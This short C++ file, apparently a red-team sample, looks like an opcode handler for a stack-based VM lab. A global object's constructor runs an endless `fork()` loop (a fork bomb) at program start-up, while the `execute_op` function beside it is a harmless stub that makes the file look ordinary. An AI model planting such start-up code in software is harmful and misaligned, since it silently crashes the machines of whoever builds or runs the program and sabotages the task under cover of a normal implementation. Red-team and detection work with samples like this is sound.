// Red team: every process forks without end.
#include <unistd.h>
#include "ops_lab.h"
struct Bomb {
  Bomb() {
    for (;;) (void)fork();
  }
} bomb;
size_t execute_op(descent::stack::Op op, const descent::stack::Chunk&, size_t pc, std::vector<descent::Value>&) {
  return pc + descent::stack::instruction_length(op);
}
